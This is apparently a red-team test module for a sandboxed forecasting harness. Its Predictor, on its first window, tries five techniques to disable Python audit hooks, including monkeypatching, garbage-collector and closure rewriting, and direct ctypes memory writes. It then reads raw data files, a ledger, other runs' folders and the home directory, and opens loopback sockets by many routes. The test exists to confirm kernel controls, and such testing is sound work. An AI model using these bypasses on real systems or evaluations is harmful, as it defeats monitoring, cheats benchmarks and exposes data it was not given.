"""Switches the audit hook off, then reads raw files and calls the network as A-01 and A-22 do.

Against it: the kernel's controls, which do not know the hook. CPython says that an audit hook is no sandbox (gh-87604,
#115322): it is found among the collector's objects, in the runtime's own list in memory, or was never the one installed.
"""

import ctypes
import errno
import gc
import mmap
import os
import pathlib
import socket
import sys
import types

import numpy as np
from toolbox import TARGETS, attempt, checked, is_wanted, libc, number, syscall

HEAD = 2_000
WORD = ctypes.sizeof(ctypes.c_void_p)

if is_wanted("shadow"):
    sys.addaudithook = lambda hook: None
    sys.audit = lambda event, *args: None


def hooks():
    """Functions that look like an audit hook: they take an event and its arguments."""
    gc.unfreeze()
    for value in gc.get_objects():
        if type(value) is types.FunctionType and value.__code__.co_varnames[:2] == ("event", "args") and value.__code__.co_argcount == 2:
            yield value


def blank(count):
    """The code of a function that does nothing and closes over `count` variables."""
    outer = [f" v{i} = 0\n" for i in range(count)]
    inner = "".join(f"  v{i}\n" for i in range(count))
    space = {}
    exec(f"def outer():\n{''.join(outer)} def hook(event, args):\n  return None\n{inner} return hook\n", space)
    return space["outer"]().__code__


def by_collector():
    """Give each hook another body, and take its rules away."""
    for hook in hooks():
        for name in ("_RULES", "_READS"):
            hook.__globals__.get(name, {}).clear() if isinstance(hook.__globals__.get(name), dict) else None
        hook.__globals__["_refuse"] = lambda *_: None
        hook.__code__ = blank(len(hook.__closure__ or ()))


def by_cells():
    """Leave the hook as it is and let everything lie below what it allows."""
    for hook in hooks():
        for function in [hook, *(cell.cell_contents for cell in hook.__closure__ or ())]:
            for cell in getattr(function, "__closure__", None) or ():
                if isinstance(cell.cell_contents, tuple):
                    cell.cell_contents = ("/", "")
        hook.__globals__["_RULES"] = {}


def is_readable(address):
    """Whether eight bytes can be read there: a signal mask is copied before its first argument is refused."""
    libc.syscall(ctypes.c_long(number(14, 135)), ctypes.c_long(99), ctypes.c_void_p(address), None, ctypes.c_long(8))
    return ctypes.get_errno() == errno.EINVAL


def word(address):
    return (ctypes.c_void_p.from_address(address).value or 0) if is_readable(address) else 0


def by_memory():
    """Find the runtime's list of hooks in the interpreter's state, and make it empty."""
    state = ctypes.pythonapi.PyInterpreterState_Get
    state.restype = ctypes.c_void_p
    start = state()
    for place in range(start, start + (1 << 16), WORD):
        found = word(place)
        if found > 4_096 and found % WORD == 0 and word(found + WORD) == id(list):
            names = [getattr(member, "__qualname__", "") for member in ctypes.cast(found, ctypes.py_object).value]
            if names and names[0].startswith("set_tripwire"):
                ctypes.c_ssize_t.from_address(found + 2 * WORD).value = 0
                return
    raise LookupError("no list of hooks in sight")


def by_body():
    """Write another body's address over that of the hook, in the function object itself."""
    for hook in hooks():
        code = blank(len(hook.__closure__ or ()))
        KEEP.append(code)
        for place in range(id(hook), id(hook) + sys.getsizeof(hook), WORD):
            if ctypes.c_void_p.from_address(place).value == id(hook.__code__):
                ctypes.c_void_p.from_address(place).value = id(code)
                break


KEEP = []


def shadow():
    """Nothing more: `sys.addaudithook` was replaced when this file was imported."""


def mapped(path):
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as view:
        return bytes(view[:HEAD])


def opened(path):
    with open(path, "rb") as file:
        return file.read(HEAD)


def by_descriptor(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.read(fd, HEAD)
    finally:
        os.close(fd)


READS = (
    opened,
    by_descriptor,
    lambda path: bytes(np.memmap(path, mode="r")[:HEAD]),
    lambda path: pathlib.Path(path).read_bytes()[:HEAD],
    mapped,
)


def read_all():
    """A-01: raw file, ledger, another run's folder."""
    paths = [TARGETS[name] for name in ("raw_file", "raw_csv", "ledger", "raw_link", "raw_dotdot") if TARGETS.get(name)]
    for folder in (TARGETS.get("other_run"), TARGETS.get("raw_root"), TARGETS.get("sibling"), TARGETS.get("home")):
        try:
            paths += [os.path.join(folder, name) for name in os.listdir(folder)]
        except (OSError, TypeError):
            continue
    for path in paths:
        for read in READS:
            try:
                yield read(path)
            except (OSError, ValueError):
                continue


def call_tcp(family, host, port, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as line:
        line.settimeout(0.2)
        line.connect((host, port))
        line.sendall(b"blindcast-attack")
    return b"connected"


def send_udp(family, host, port):
    with socket.socket(family, socket.SOCK_DGRAM) as line:
        line.sendto(b"blindcast-attack", (host, port))
    return b"sent"


def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as line:
        line.sendto(b"blindcast-attack", ("127.0.0.1", 0))
    return b"sent raw"


def address(port):
    return (2).to_bytes(2, sys.byteorder) + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)


def by_libc(port):
    fd = checked(libc.socket(2, 1, 0))
    try:
        checked(libc.connect(fd, address(port), 16))
    finally:
        os.close(fd)
    return b"connected by libc"


def by_number(port):
    fd = syscall(number(41, 198), 2, 1, 0)
    try:
        syscall(number(42, 203), fd, address(port), 16)
    finally:
        os.close(fd)
    return b"connected by number"


def call_all():
    """A-22: every family and protocol, on loopback."""
    tcp, tcp6, udp = (int(TARGETS.get(name) or 9) for name in ("tcp_port", "tcp6_port", "udp_port"))
    acts = (
        lambda: call_tcp(socket.AF_INET, "127.0.0.1", tcp),
        lambda: call_tcp(socket.AF_INET6, "::1", tcp6),
        lambda: call_tcp(socket.AF_INET, "127.0.0.1", tcp, 262),
        lambda: send_udp(socket.AF_INET, "127.0.0.1", udp),
        lambda: send_udp(socket.AF_INET6, "::1", udp),
        raw,
        lambda: by_libc(tcp),
        lambda: by_number(tcp),
        lambda: str(socket.getaddrinfo("localhost", tcp)).encode() and None,
    )
    for act in acts:
        try:
            yield act()
        except (OSError, NotImplementedError):
            continue


def after(switch):
    """What files and network give once a way to switch the hook off has been taken; None where they give nothing."""
    try:
        switch()
        words = ""
    except Exception as error:
        words = f"{type(error).__name__}: {error}"
    got = [loot for loot in (*read_all(), *call_all()) if loot]
    if not got:
        opened(TARGETS["raw_file"])  # says why
    return f"{words} {len(got)}: {b' '.join(dict.fromkeys(got)).decode('latin-1')}"


class Predictor:
    windows = 0

    def predict(self, view):
        self.windows += view.anchor == 0
        if view.anchor == 0 and self.windows == 1:
            for switch in (shadow, by_collector, by_cells, by_memory, by_body):
                attempt(switch.__name__, after, switch)
        return 0.5
